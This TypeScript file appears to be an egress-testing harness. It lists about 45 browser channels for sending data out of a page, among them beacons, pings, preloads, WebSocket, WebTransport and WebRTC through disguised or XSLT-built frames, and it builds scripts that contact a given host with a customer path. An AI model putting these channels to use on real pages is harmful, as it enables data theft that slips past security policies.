/** Ways in which a script could carry data out of the page, by name; each is an expression over `U` and `H`. */
export const WAYS_OUT: Readonly<Record<string, string>> = {
  fetch: `fetch(U, { mode: 'no-cors', method: 'POST', body: 'x' })`,
  'fetch that outlives the page': `fetch(U, { keepalive: true, mode: 'no-cors' })`,
  XMLHttpRequest: `(() => { const x = new XMLHttpRequest(); x.open('GET', U); x.send(); })()`,
  beacon: `navigator.sendBeacon(U, 'x')`,
  ping: `(() => { const a = make('a', { href: '#x', ping: U }); a.click(); })()`,
  image: `make('img', { src: U })`,
  'image of an SVG': `(() => {
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
    const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
    image.setAttribute('href', U); svg.append(image); document.body.append(svg); })()`,
  'background image': `make('p', { style: 'background-image: url(' + U + ')' })`,
  'CSS import': `make('style', { textContent: '@import url(' + U + ');' })`,
  'style sheet': `make('link', { rel: 'stylesheet', href: U })`,
  font: `new FontFace('x', 'url(' + U + ')').load()`,
  video: `make('video', { src: U })`,
  'module import': `import(U)`,
  prefetch: `make('link', { rel: 'prefetch', href: U })`,
  preload: `make('link', { rel: 'preload', as: 'image', href: U })`,
  'dns-prefetch': `make('link', { rel: 'dns-prefetch', href: U })`,
  preconnect: `make('link', { rel: 'preconnect', href: U })`,
  manifest: `make('link', { rel: 'manifest', href: U })`,
  icon: `make('link', { rel: 'icon', href: U })`,
  EventSource: `new EventSource(U)`,
  WebSocket: `new WebSocket(U.replace('http', 'ws'))`,
  WebTransport: `new WebTransport(U.replace('http', 'https')).ready`,
  worker: `new Worker(URL.createObjectURL(new Blob(['fetch("' + U + '")'])))`,
  frame: `make('iframe', { src: U })`,
  'frame that is sent on': `(() => { make('iframe', {}).contentWindow.location = U; })()`,
  'frame of a frameset': `make('frame', { src: U })`,
  object: `make('object', { data: U })`,
  embed: `make('embed', { src: U })`,
  'form that gets': `make('form', { action: U }).submit()`,
  'form that posts': `make('form', { method: 'post', action: U }).submit()`,
  'form to a new window': `make('form', { action: U, target: '_blank' }).submit()`,
  'new window': `window.open(U)`,
  'link to a new window': `make('a', { href: U, target: '_blank' }).click()`,
  link: `make('a', { href: U }).click()`,
  download: `make('a', { href: U, download: 'x' }).click()`,
  location: `(() => { location.href = U; })()`,
  'navigation of the history': `navigation.navigate(U)`,
  'meta refresh': `document.head.append(make('meta', { httpEquiv: 'refresh', content: '0;url=' + U }))`,
  WebRTC: `connect(window)`,
  'WebRTC of a fresh frame': `connect(make('iframe', {}).contentWindow)`,
  'WebRTC of a frame by another name': `(() => {
    const frame = document.createElementNS('http://www.w3.org/1999/xhtml', 'x:iframe');
    document.body.append(frame); return connect(frame.contentWindow); })()`,
  'WebRTC of a frame of another document': `(() => {
    const other = document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'iframe');
    const frame = document.adoptNode(other.documentElement);
    document.body.append(frame); return connect(frame.contentWindow); })()`,
  'WebRTC of a frame under a name of its own': `(() => {
    class Frame extends HTMLIFrameElement {}
    customElements.define('x-frame', Frame, { extends: 'iframe' });
    const frame = new Frame(); document.body.append(frame); return connect(frame.contentWindow); })()`,
  'WebRTC of a frame from a style sheet': `(() => {
    const xsl = 'http://www.w3.org/1999/XSL/Transform';
    const sheet = document.implementation.createDocument(xsl, 'xsl:stylesheet');
    sheet.documentElement.setAttribute('version', '1.0');
    const template = sheet.createElementNS(xsl, 'xsl:template');
    template.setAttribute('match', '/');
    template.append(sheet.createElementNS('http://www.w3.org/1999/xhtml', 'iframe'));
    sheet.documentElement.append(template);
    const processor = new XSLTProcessor(); processor.importStylesheet(sheet);
    const [frame] = processor.transformToFragment(document, document).children;
    document.body.append(frame);
    return connect(frame.contentWindow); })()`,
  'WebRTC of a new window': `connect(window.open('about:blank'))`,
};

/** A script that tries one way to `host:port`; it never throws, and is over within a second. */
export function scriptOf(way: string, host: string): string {
  return `(async () => {
    const U = 'http://${host}/customer-10001';
    const H = '${host}';
    const make = (name, more) => {
      const made = Object.assign(document.createElement(name), more);
      document.body.append(made);
      return made;
    };
    const connect = async (from) => {
      const iceServers = [{ urls: 'turn:' + H + '?transport=tcp', username: 'a', credential: 'b' }, { urls: 'stun:' + H }];
      const peer = new from.RTCPeerConnection({ iceServers });
      peer.createDataChannel('x');
      await peer.setLocalDescription(await peer.createOffer());
    };
    const over = new Promise((done) => setTimeout(done, 400));
    try { await Promise.race([over, ${WAYS_OUT[way] ?? ''}]); } catch { }
  })()`;
}
